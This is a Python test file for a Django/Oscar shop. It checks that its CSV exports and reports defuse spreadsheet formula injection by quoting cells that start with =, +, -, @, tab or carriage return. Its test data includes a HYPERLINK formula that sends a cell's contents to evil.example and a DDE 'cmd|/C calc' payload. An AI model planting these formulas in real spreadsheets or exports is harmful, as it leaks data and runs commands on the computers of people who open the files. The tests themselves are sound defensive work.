"""Every CSV we export neutralises cells a spreadsheet would run as a formula (issue 9).

A cell starting with =, +, -, @, a tab or a carriage return gets a leading
single quote. Checked on the files as they are downloaded: the buyer's
history export (M9) and Oscar's dashboard reports (S1).
"""

import csv
import io

import pytest
from django.test import Client
from django_otp.plugins.otp_totp.models import TOTPDevice
from oscar.core.loading import get_model

from tests.order_factories import make_order

ProductRecord = get_model("analytics", "ProductRecord")
UserRecord = get_model("analytics", "UserRecord")

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"詳細")',
    "+1 追加ライセンス",
    "-2 返品分",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(response):
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    return rows, [cell for row in rows for cell in row]


def _no_cell_starts_a_formula(cells):
    return not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.fixture
def staff_client(django_user_model):
    """A superuser whose session has passed the second factor (M11)."""
    staff = django_user_model.objects.create_user(
        "reports1", "reports1@kobai.example", "pw-reports-123", is_staff=True, is_superuser=True
    )
    device = TOTPDevice.objects.create(user=staff, name="phone", confirmed=True)
    client = Client()
    client.force_login(staff)
    session = client.session
    session["otp_device_id"] = device.persistent_id
    session.save()
    return client


def test_history_export_prefixes_formula_cells_in_product_names(members):
    # covers: M9
    orders = [make_order(member=members["K0000004"]) for _ in FORMULAS]
    for order, title in zip(orders, FORMULAS, strict=True):
        order.lines.update(title=title)
    client = Client()
    client.force_login(members["K0000001"].user)  # the company's administrator
    rows, cells = _cells(client.get("/shop/withdrawal/history.csv"))
    assert rows[0][:2] == ["注文番号", "注文日"]
    titles = sorted(row[5] for row in rows[1:])
    assert titles == sorted(f"'{title}" for title in FORMULAS)
    assert _no_cell_starts_a_formula(cells)
    assert all(row[7].isdigit() for row in rows[1:])  # amounts are untouched


def test_dashboard_order_report_prefixes_formula_cells(members, staff_client):
    # covers: S1
    buyer = members["K0000004"].user
    buyer.first_name, buyer.last_name = "@SUM(A1:A9)", "=1+1"
    buyer.save(update_fields=["first_name", "last_name"])
    order = make_order(member=members["K0000004"])
    response = staff_client.get("/shop/dashboard/reports/", {"report_type": "order_report", "download": "on"})
    rows, cells = _cells(response)
    [row] = [row for row in rows if row[0] == order.number]
    assert row[1] == "'" + buyer.get_full_name()
    assert row[3] == str(order.total_incl_tax)  # a number stays a number
    assert _no_cell_starts_a_formula(cells)


def test_dashboard_product_and_user_reports_prefix_formula_cells(members, staff_client):
    # covers: S1
    [order] = [make_order(member=members["K0000004"])]
    product = order.lines.get().product
    product.title = FORMULAS[0]
    product.save(update_fields=["title"])
    ProductRecord.objects.update_or_create(product=product, defaults={"num_views": 3})
    buyer = members["K0000004"].user
    buyer.first_name, buyer.last_name = "-2", "+1"
    buyer.save(update_fields=["first_name", "last_name"])
    UserRecord.objects.update_or_create(user=buyer, defaults={"num_orders": 1})

    rows, cells = _cells(
        staff_client.get("/shop/dashboard/reports/", {"report_type": "product_analytics", "download": "on"})
    )
    assert "'" + FORMULAS[0] in [row[0] for row in rows]
    assert _no_cell_starts_a_formula(cells)

    rows, cells = _cells(
        staff_client.get("/shop/dashboard/reports/", {"report_type": "user_analytics", "download": "on"})
    )
    [row] = [row for row in rows if row[0] == buyer.email]
    assert row[1] == "'" + buyer.get_full_name()
    assert _no_cell_starts_a_formula(cells)


def test_wagtail_report_csv_prefixes_formula_cells(staff_client):
    # covers: W3
    from wagtail.models import Page

    from cms.models import HomePage

    home = HomePage.objects.first() or Page.objects.get(depth=1)
    title = '=HYPERLINK("http://evil.example/","開く")'
    page = home.add_child(instance=Page(title=title, slug="formula-title"))
    page.save_revision().publish()
    response = staff_client.get("/cms-admin/reports/aging-pages/", {"export": "csv"})
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body, newline="")))
    cells = [cell for row in rows for cell in row]
    assert "'" + title in cells
    assert _no_cell_starts_a_formula(cells)
